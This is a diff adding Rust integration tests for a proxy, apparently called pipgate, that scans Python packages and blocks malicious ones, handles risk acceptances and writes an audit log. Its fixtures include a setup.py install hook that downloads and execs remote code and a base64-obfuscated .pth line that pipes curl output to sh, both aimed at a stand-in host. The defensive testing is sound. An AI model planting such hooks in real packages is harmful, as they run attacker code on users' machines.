@@ -1,0 +1,174 @@
+//! The scanner in the proxy, end to end: crafted malicious packages are blocked for pip and uv
+//! under the repo's default policy.yaml, a risk acceptance lets exactly that version through
+//! until it expires, and every decision is in the audit log.
+
+mod common;
+use common::*;
+use std::process::Command;
+
+/// A setup.py that overrides `install` to download and run code (never executed here:
+/// the test sdists build with an in-tree backend that ignores setup.py).
+const HOOK_SETUP_PY: &str = r#"import urllib.request
+from setuptools import setup
+from setuptools.command.install import install
+
+
+class PostInstall(install):
+    def run(self):
+        payload = urllib.request.urlopen("http://203.0.113.7/stage2.py").read()
+        exec(payload)
+        install.run(self)
+
+
+setup(name="demo-hook", version="1.0", cmdclass={"install": PostInstall})
+"#;
+
+const PTH_EXEC: &str = "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiY3VybCBodHRwOi8vMjAzLjAuMTEzLjcveCB8IHNoIik='))\n";
+
+fn repo_policy() -> String {
+    std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/policy.yaml")).unwrap()
+}
+
+fn pipgate_cli(args: &[&str]) -> std::process::Output {
+    Command::new(env!("CARGO_BIN_EXE_pipgate")).args(args).output().unwrap()
+}
+
+fn stderr(o: &std::process::Output) -> String {
+    String::from_utf8_lossy(&o.stderr).into_owned()
+}
+
+fn wait_for(what: &str, mut f: impl FnMut() -> bool) {
+    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(15);
+    while !f() {
+        assert!(std::time::Instant::now() < deadline, "timed out waiting for {what}");
+        std::thread::sleep(std::time::Duration::from_millis(150));
+    }
+}
+
+#[test]
+fn install_hook_sdist_is_blocked_and_an_acceptance_lets_exactly_that_version_through_until_it_expires() {
+    let idx = FakeIndex::start(Format::Json);
+    let v10 = sdist("demo-hook", "1.0", &[("setup.py", HOOK_SETUP_PY)]);
+    let v10_sha = sha256_hex(&v10.bytes);
+    idx.add_dist("demo-hook", v10);
+    idx.add_dist("demo-hook", sdist("demo-hook", "1.1", &[("setup.py", &HOOK_SETUP_PY.replace("1.0", "1.1"))]));
+    let dir = tempfile::tempdir().unwrap();
+    let policy = dir.path().join("policy.yaml");
+    std::fs::write(&policy, repo_policy()).unwrap();
+    let data = dir.path().join("data");
+    let gate = Pipgate::start_with(&idx.url(), &policy, &data);
+
+    // Blocked for pip: the status line names pipgate, the finding and the rule.
+    let venv = Venv::new();
+    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-hook==1.0"]);
+    assert!(!out.status.success(), "{}", show(&out));
+    let err = stderr(&out);
+    assert!(err.contains("403 Client Error: Blocked by pipgate: execution.install-hook"), "{err}");
+    // Blocked for uv: the problem details name the file, the finding and how to get an acceptance.
+    let out = venv.uv_pip(&["install", "--index-url", &gate.url, "demo-hook==1.0"]);
+    assert!(!out.status.success(), "{}", show(&out));
+    let err = stderr(&out);
+    assert!(err.contains("demo_hook-1.0.tar.gz") || err.contains("demo-hook-1.0.tar.gz"), "{err}");
+    assert!(err.contains("setup.py") && err.contains(&format!("pipgate policy accept {v10_sha}")), "{err}");
+
+    // The block is audited with the finding and the rule.
+    let audit = gate.audit();
+    let block = audit.iter().find(|r| r["decision"] == "block").expect("a block line");
+    assert!(block["findings"].as_array().unwrap().iter().any(|f| f == "execution.install-hook"), "{block}");
+    assert_eq!(block["sha256"], v10_sha.as_str());
+
+    // The security team asks pipgate for the acceptance and pastes it.
+    let out = pipgate_cli(&[
+        "policy",
+        "accept",
+        &v10_sha,
+        "--policy",
+        policy.to_str().unwrap(),
+        "--data-dir",
+        data.to_str().unwrap(),
+        "--upstream",
+        &idx.url(),
+    ]);
+    assert!(out.status.success(), "{}", show(&out));
+    let snippet = String::from_utf8(out.stdout).unwrap();
+    assert!(snippet.contains("execution.install-hook") && snippet.contains(&v10_sha), "{snippet}");
+    std::fs::write(&policy, format!("{}{snippet}", repo_policy())).unwrap();
+
+    // Hot reload: 1.0 installs now (pip and uv), 1.1 with the same hook stays blocked.
+    wait_for("the acceptance to load", || gate.log().matches("policy reloaded").count() >= 1);
+    let venv = Venv::new();
+    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-hook==1.0"]);
+    assert!(out.status.success(), "{}", show(&out));
+    assert_eq!(venv.run("import demo_hook; print(demo_hook.VERSION)"), "1.0");
+    let venv = Venv::new();
+    let out = venv.uv_pip(&["install", "--index-url", &gate.url, "demo-hook==1.0"]);
+    assert!(out.status.success(), "{}", show(&out));
+    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-hook==1.1"]);
+    assert!(!out.status.success(), "1.1 must stay blocked: {}", show(&out));
+    let served = gate.audit().into_iter().find(|r| r["decision"] != "block" && r["filename"] == "demo-hook-1.0.tar.gz");
+    let served = served.expect("a served line for 1.0");
+    assert!(!served["acceptances"].as_array().unwrap().is_empty(), "{served}");
+
+    // Expired: the same acceptance with a past expiry stops applying.
+    let expired =
+        regex::Regex::new(r#"expires: "[^"]+""#).unwrap().replace(&snippet, "expires: \"2020-01-01T00:00:00Z\"");
+    std::fs::write(&policy, format!("{}{expired}", repo_policy())).unwrap();
+    wait_for("the expired acceptance to load", || gate.log().matches("policy reloaded").count() >= 2);
+    let out = Venv::new().pip(&["install", "--index-url", &gate.url, "demo-hook==1.0"]);
+    assert!(!out.status.success(), "expired acceptance must not apply: {}", show(&out));
+    let last = gate.audit().into_iter().rev().find(|r| r["decision"] == "block").unwrap();
+    let reasons = serde_json::to_string(&last["reasons"]).unwrap();
+    assert!(reasons.contains("expired"), "{reasons}");
+}
+
+#[test]
+fn pth_exec_wheel_is_blocked_and_a_benign_lookalike_installs() {
+    let idx = FakeIndex::start(Format::Html);
+    idx.add_dist("demo-pth", wheel("demo-pth", "1.0", &[], &[("demo_pth_init.pth", PTH_EXEC)]));
+    idx.add_dist("demo-paths", wheel("demo-paths", "1.0", &[], &[("demo_paths.pth", "./vendor\n")]));
+    let dir = tempfile::tempdir().unwrap();
+    let policy = dir.path().join("policy.yaml");
+    std::fs::write(&policy, repo_policy()).unwrap();
+    let gate = Pipgate::start_with(&idx.url(), &policy, &dir.path().join("data"));
+    let venv = Venv::new();
+    let out = venv.uv_pip(&["install", "--index-url", &gate.url, "demo-pth"]);
+    assert!(!out.status.success(), "{}", show(&out));
+    assert!(stderr(&out).contains("403"), "{}", show(&out));
+    let out = venv.pip(&["install", "--index-url", &gate.url, "demo-paths"]);
+    assert!(out.status.success(), "{}", show(&out));
+}
+
+#[test]
+fn scan_command_reports_in_text_json_and_sarif_with_exit_codes() {
+    let dir = tempfile::tempdir().unwrap();
+    let bad = sdist("demo-hook", "1.0", &[("setup.py", HOOK_SETUP_PY)]);
+    let good = wheel("demo-good", "1.0", &[], &[]);
+    let bad_path = dir.path().join(&bad.filename);
+    let good_path = dir.path().join(&good.filename);
+    std::fs::write(&bad_path, &bad.bytes).unwrap();
+    std::fs::write(&good_path, &good.bytes).unwrap();
+    let policy = dir.path().join("policy.yaml");
+    std::fs::write(&policy, repo_policy()).unwrap();
+    let p = policy.to_str().unwrap();
+
+    let out = pipgate_cli(&["scan", good_path.to_str().unwrap(), "--policy", p]);
+    assert_eq!(out.status.code(), Some(0), "{}", show(&out));
+
+    let out = pipgate_cli(&["scan", bad_path.to_str().unwrap(), "--policy", p]);
+    assert_eq!(out.status.code(), Some(1), "{}", show(&out));
+    let text = String::from_utf8_lossy(&out.stdout);
+    assert!(text.contains("execution.install-hook") && text.contains("setup.py"), "{text}");
+
+    let out = pipgate_cli(&["scan", bad_path.to_str().unwrap(), "--policy", p, "--format", "json"]);
+    let json: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let ids: Vec<&str> = json["findings"].as_array().unwrap().iter().map(|f| f["detector"].as_str().unwrap()).collect();
+    assert!(ids.contains(&"execution.install-hook"), "{ids:?}");
+
+    let out = pipgate_cli(&["scan", bad_path.to_str().unwrap(), "--policy", p, "--format", "sarif"]);
+    let sarif: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(sarif["version"], "2.1.0");
+    assert!(sarif["runs"][0]["results"].as_array().unwrap().iter().any(|r| r["ruleId"] == "execution.install-hook"));
+
+    let out = pipgate_cli(&["scan", "/no/such/file.whl", "--policy", p]);
+    assert_eq!(out.status.code(), Some(2), "{}", show(&out));
+}
